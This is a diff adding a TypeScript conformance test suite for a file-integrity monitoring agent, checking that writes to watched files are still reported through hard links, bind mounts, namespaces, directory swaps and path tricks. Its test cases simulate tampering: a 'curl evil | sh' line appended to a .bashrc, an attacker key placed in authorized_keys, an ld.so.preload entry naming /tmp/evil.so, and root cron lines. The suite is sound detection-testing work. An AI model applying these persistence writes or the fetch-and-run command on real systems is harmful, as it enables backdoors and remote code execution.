@@ -1,0 +1,279 @@
+/**
+ * Conformance suite (issue 12): one case per way a change to a watched file was seen to go
+ * unreported (another name for the file, another mount, a race with a rename, a reused kernel
+ * object, an unnormalised path, a directory made after start). Each case asserts the NDJSON lines
+ * the agent must print and, for baseline files, the `change` line. Runs with the sensor under test
+ * (tracepoint on the host, LSM in the VM); a case the sensor declares in the ready line's
+ * `blind_spots` may miss, every other case must pass. Prints a case x result matrix at the end.
+ */
+import { suite } from 'uvu';
+import * as assert from 'uvu/assert';
+import { appendFileSync, mkdirSync, renameSync, rmdirSync, unlinkSync, writeFileSync } from 'node:fs';
+import { release } from 'node:os';
+import { join } from 'node:path';
+import { helperBin, inVm, run, sensorUnderTest, sleep, startAgent, type Event, type RunningAgent } from './harness.js';
+import { EVIL, KEY_EVIL, makeConformanceTree, PASSWD, type ConformanceTree } from './conformanceTree.js';
+
+const conf = suite('conformance');
+const CHANGE_TIMEOUT = inVm ? 90_000 : 15_000;
+let tree: ConformanceTree;
+let agent: RunningAgent;
+let declared = new Set<string>();
+const results: Array<{ id: string; result: 'seen' | 'declared blind spot' | 'MISSED'; note: string }> = [];
+
+conf.before(async () => {
+  tree = makeConformanceTree();
+  agent = startAgent(['--policy', tree.policyFile, '--sensor', sensorUnderTest, '--db', tree.db, '--control', tree.control]);
+  const ready = await agent.waitFor((e) => e.type === 'ready', 'ready');
+  const spots = Array.isArray(ready.blind_spots) ? (ready.blind_spots as Array<{ id?: unknown }>) : [];
+  declared = new Set(spots.map((s) => String(s.id)));
+  await agent.waitFor((e) => e.type === 'baseline', 'baseline reconciled');
+});
+
+conf.after(async () => {
+  await agent?.stop('SIGTERM');
+  tree?.cleanup();
+  const width = Math.max(...results.map((r) => r.id.length), 4);
+  const lines = [`conformance matrix: sensor ${sensorUnderTest}, kernel ${release()}`, `  ${'case'.padEnd(width)}  result`];
+  for (const r of results) lines.push(`  ${r.id.padEnd(width)}  ${r.result}${r.note ? ` (${r.note})` : ''}`);
+  console.log(lines.join('\n'));
+});
+
+/** A case: passes if the body passes, or if it fails and the sensor declared it a blind spot. */
+function check(id: string, title: string, body: () => Promise<void>): void {
+  conf(`${id}: ${title}`, async () => {
+    try {
+      await body();
+      results.push({ id, result: 'seen', note: '' });
+    } catch (err) {
+      const first = String((err as Error).message).split('\n')[0];
+      if (declared.has(id)) {
+        results.push({ id, result: 'declared blind spot', note: first.slice(0, 100) });
+        return;
+      }
+      results.push({ id, result: 'MISSED', note: first.slice(0, 100) });
+      throw err;
+    }
+  });
+}
+
+type Want = Record<string, unknown>;
+
+/** Ring-buffer order: once a marker write made after the operation is seen, so is the operation.
+ * The marker file exists from the start (a new one could itself fall into the case under test). */
+async function settle(): Promise<void> {
+  const marker = join(tree.w, '.marker');
+  const from = agent.events.length;
+  appendFileSync(marker, 'm');
+  await agent.waitFor((e) => e.type === 'open' && e.path === marker && agent.events.indexOf(e) >= from, `marker ${marker}`);
+}
+
+const matches = (e: Event, want: Want) =>
+  Object.entries(want).every(([k, v]) => (typeof v === 'function' ? (v as (x: unknown) => boolean)(e[k]) : JSON.stringify(e[k]) === JSON.stringify(v)));
+
+const fileEvents = (since: number) => agent.events.slice(since).filter((e) => e.type !== 'change' && e.type !== 'stats');
+
+async function expectLines(since: number, wants: Want[], what: string): Promise<void> {
+  await settle();
+  const got = fileEvents(since);
+  const missing = wants.filter((want) => !got.some((e) => matches(e, want)));
+  if (missing.length > 0) {
+    const seen = got.filter((e) => !String(e.path ?? '').endsWith('/.marker')).slice(0, 8).map((e) => JSON.stringify(e));
+    throw new Error(
+      `${what}: ${missing.length} of ${wants.length} expected lines missing, first ${JSON.stringify(missing[0])}; lines seen:\n${seen.join('\n') || '(none)'}`,
+    );
+  }
+}
+
+async function expectChange(since: number, path: string, content: RegExp): Promise<Event> {
+  return agent.waitFor(
+    (e) => agent.events.indexOf(e) >= since && e.type === 'change' && e.path === path && content.test(JSON.stringify(e.diff ?? e)),
+    `change of ${path} showing ${String(content)}`,
+    CHANGE_TIMEOUT,
+  );
+}
+
+const pidOf = (out: string) => Number(out.split('\n')[0].trim());
+
+check('control', 'a plain append to a watched file (the baseline every other case compares with)', async () => {
+  const since = agent.events.length;
+  const file = join(tree.w, 'control');
+  appendFileSync(file, 'x\n');
+  await expectLines(since, [
+    { type: 'open', path: file, pid: process.pid, access: 'write' },
+    { type: 'write', path: file, pid: process.pid },
+  ], 'append');
+});
+
+check('verdict-reuse', 'files created after others were created and unlinked on the same mount are all reported', async () => {
+  // Many unwatched files opened (their verdicts cached) and unlinked: their dentries, inodes and
+  // files go back to the slab, and the next ones made come from the same memory.
+  for (let i = 0; i < 2000; i++) writeFileSync(join(tree.u, `scratch-${i}`), 'x');
+  for (let i = 0; i < 2000; i++) unlinkSync(join(tree.u, `scratch-${i}`));
+  await sleep(200); // RCU-freed objects are reusable after a grace period
+  const since = agent.events.length;
+  const wants: Want[] = [];
+  for (let i = 0; i < 100; i++) {
+    const scratch = join(tree.u, `again-${i}`);
+    writeFileSync(scratch, 'x');
+    unlinkSync(scratch);
+    const file = join(tree.w, 'reuse', `cron-${i}`);
+    writeFileSync(file, '* * * * * root id\n');
+    wants.push({ type: 'open', path: file, pid: process.pid, access: 'write' });
+  }
+  await expectLines(since, wants, 'new files in a watched directory');
+});
+
+check('rename-race', 'a directory renamed into a watched tree while another process opens it in a loop', async () => {
+  const since = agent.events.length;
+  const out = run(helperBin('rename_race'), [join(tree.u, 'race'), join(tree.w, 'race'), '50']);
+  const pid = pidOf(out);
+  const wants = Array.from({ length: 50 }, (_, i) => ({ type: 'open', path: join(tree.w, 'race', `r${i}`, 'f'), pid, access: 'write' }));
+  await expectLines(since, wants, 'appends after the renames');
+});
+
+check('fd-across-rename', 'a file opened unwatched, renamed over a watched file, then written through the old fd', async () => {
+  const since = agent.events.length;
+  const prepared = join(tree.u, 'prepared_fd');
+  const target = join(tree.w, 'passwd_fd');
+  writeFileSync(prepared, PASSWD);
+  const pid = pidOf(run('sh', ['-c', 'echo $$; exec 3>>"$1"; mv "$1" "$2"; echo "$3" >&3', 'sh', prepared, target, EVIL]));
+  await expectLines(since, [
+    { type: 'rename', path: target, old_path: prepared, comm: 'mv' },
+    { type: 'write', path: target, pid, comm: 'sh' },
+  ], 'rename and the write through the held fd');
+  await expectChange(since, target, /evil/);
+});
+
+check('hard-link', 'a hard link to a watched file, written under its unwatched name', async () => {
+  const since = agent.events.length;
+  const target = join(tree.w, 'passwd_link');
+  const alias = join(tree.u, 'pw_link');
+  const pid = pidOf(run('sh', ['-c', 'echo $$; ln "$1" "$2" && echo "$3" >> "$2"', 'sh', target, alias, EVIL]));
+  await expectLines(since, [
+    { type: 'open', path: alias, watched_path: target, pid, access: 'write' },
+    { type: 'write', path: alias, watched_path: target, pid },
+  ], 'write through the hard link');
+  await expectChange(since, target, /evil/);
+});
+
+check('bind-mount', 'a watched tree bind-mounted elsewhere, a watched file written through the mount', async () => {
+  const since = agent.events.length;
+  const mnt = join(tree.u, 'bm');
+  const pid = pidOf(run(helperBin('bind_write'), [tree.w, mnt, 'passwd_bind', EVIL]));
+  const target = join(tree.w, 'passwd_bind');
+  await expectLines(since, [
+    { type: 'open', path: join(mnt, 'passwd_bind'), watched_path: target, pid, access: 'write' },
+    { type: 'write', path: join(mnt, 'passwd_bind'), watched_path: target, pid },
+  ], 'write through the bind mount');
+  await expectChange(since, target, /evil/);
+});
+
+check('bind-mount-new-name', 'a watched name that did not exist at start, created through a bind mount of its directory', async () => {
+  const since = agent.events.length;
+  const mnt = join(tree.u, 'bm2');
+  const pid = pidOf(run(helperBin('bind_write'), [tree.etc2, mnt, 'ld.so.preload', '/tmp/evil.so']));
+  await expectLines(since, [
+    { type: 'open', path: join(mnt, 'ld.so.preload'), watched_path: join(tree.etc2, 'ld.so.preload'), pid, access: 'write' },
+  ], 'creation through the bind mount');
+});
+
+check('mount-namespace', 'a watched file written from another mount namespace under another name', async () => {
+  const since = agent.events.length;
+  const mnt = join(tree.u, 'ns');
+  const pid = pidOf(run(helperBin('bind_write'), ['--unshare', tree.w, mnt, 'passwd_ns', EVIL]));
+  const target = join(tree.w, 'passwd_ns');
+  await expectLines(since, [
+    { type: 'open', path: join(mnt, 'passwd_ns'), watched_path: target, pid, access: 'write' },
+    { type: 'write', path: join(mnt, 'passwd_ns'), watched_path: target, pid },
+  ], 'write from the other namespace');
+  await expectChange(since, target, /evil/);
+});
+
+check('dir-exchange', 'renameat2(RENAME_EXCHANGE) of a prepared directory with a watched one', async () => {
+  const since = agent.events.length;
+  const prepared = join(tree.u, 'prepssh');
+  mkdirSync(prepared);
+  writeFileSync(join(prepared, 'authorized_keys'), KEY_EVIL);
+  const pid = pidOf(run(helperBin('rename_exchange'), [prepared, tree.ssh]));
+  const keys = join(tree.ssh, 'authorized_keys');
+  appendFileSync(keys, KEY_EVIL);
+  await expectLines(since, [
+    { type: 'rename', path: tree.ssh, old_path: prepared, exchange: true, pid },
+    { type: 'open', path: keys, pid: process.pid, access: 'write' },
+  ], 'exchange and a write into the swapped-in directory');
+  await expectChange(since, keys, /evil@attacker/);
+});
+
+check('dir-rename', 'a watched directory renamed and another removed, each as a whole', async () => {
+  const since = agent.events.length;
+  const keys = join(tree.srv, 'keys');
+  const gone = join(tree.srv, 'gone');
+  renameSync(keys, keys + '.old');
+  rmdirSync(gone);
+  await expectLines(since, [
+    { type: 'rename', path: keys + '.old', old_path: keys, pid: process.pid },
+    { type: 'rmdir', path: gone, pid: process.pid },
+  ], 'rename and rmdir of watched directories');
+});
+
+check('ancestor-rename', 'an ancestor of a watch entry, and a watched tree as a whole, renamed', async () => {
+  const since = agent.events.length;
+  renameSync(tree.rootDir, tree.rootDir + '.old');
+  renameSync(tree.opt, tree.opt + '.old');
+  await expectLines(since, [
+    { type: 'rename', path: tree.rootDir + '.old', old_path: tree.rootDir, pid: process.pid },
+    { type: 'rename', path: tree.opt + '.old', old_path: tree.opt, pid: process.pid },
+  ], 'ancestor renames');
+});
+
+check('deep-path', 'a file more than 64 directories below a watched directory', async () => {
+  const since = agent.events.length;
+  const dir = join(tree.w, 'deep', ...Array.from({ length: 70 }, () => 'd'));
+  mkdirSync(dir, { recursive: true });
+  writeFileSync(join(dir, 'f'), 'x');
+  await expectLines(since, [
+    { type: 'open', pid: process.pid, access: 'write', path_truncated: true, path: (p: unknown) => String(p).endsWith('/d/d/d/f') },
+  ], 'write deep below a watched directory');
+});
+
+/** Renames whose target is named through `..`, `//`, a symlinked directory, /proc/self/root. */
+function renameThrough(id: string, title: string, targetName: (file: string) => string, cwd: () => string = () => tree.root): void {
+  check(id, title, async () => {
+    const since = agent.events.length;
+    const file = `via-${id}`;
+    const source = join(tree.u, 'cd', file);
+    writeFileSync(source, 'x\n');
+    const pid = pidOf(run('sh', ['-c', 'echo $$; cd "$1" && exec mv "$2" "$3"', 'sh', cwd(), source, targetName(file)]));
+    await expectLines(since, [{ type: 'rename', path: join(tree.w, file), old_path: source, pid }], `rename to ${targetName(file)}`);
+  });
+}
+
+renameThrough('path-dotdot', 'a rename into a watched directory named with ..', (f) => `../w/${f}`, () => tree.u);
+renameThrough('path-double-slash', 'a rename into a watched directory named with //', (f) => `${tree.root}//w//${f}`);
+renameThrough('path-symlinked-dir', 'a rename into a watched directory through a symbolic link to it', (f) => `${tree.root}/link/${f}`);
+renameThrough('path-proc-self-root', 'a rename into a watched directory through /proc/self/root', (f) => `/proc/self/root${tree.root}/w/${f}`);
+
+check('unlink-symlinked-dir', 'an unlink of a watched file through a symbolic link to its directory', async () => {
+  const since = agent.events.length;
+  const file = join(tree.w, 'victim');
+  writeFileSync(file, 'x\n');
+  const pid = pidOf(run('sh', ['-c', 'echo $$; exec rm "$1"', 'sh', join(tree.link, 'victim')]));
+  await expectLines(since, [{ type: 'unlink', path: file, pid }], 'unlink through the symlinked directory');
+});
+
+check('wildcard-new-dir', 'a home directory created after start under a wildcard entry (/home/*/.ssh/)', async () => {
+  const since = agent.events.length;
+  const ssh = join(tree.home, 'eve', '.ssh');
+  mkdirSync(ssh, { recursive: true });
+  const keys = join(ssh, 'authorized_keys');
+  const bashrc = join(tree.home, 'eve', '.bashrc');
+  writeFileSync(keys, KEY_EVIL);
+  appendFileSync(bashrc, 'curl evil | sh\n');
+  await expectLines(since, [
+    { type: 'open', path: keys, pid: process.pid, access: 'write' },
+    { type: 'open', path: bashrc, pid: process.pid, access: 'write' },
+  ], 'writes in the new home directory');
+});
+
+conf.run();
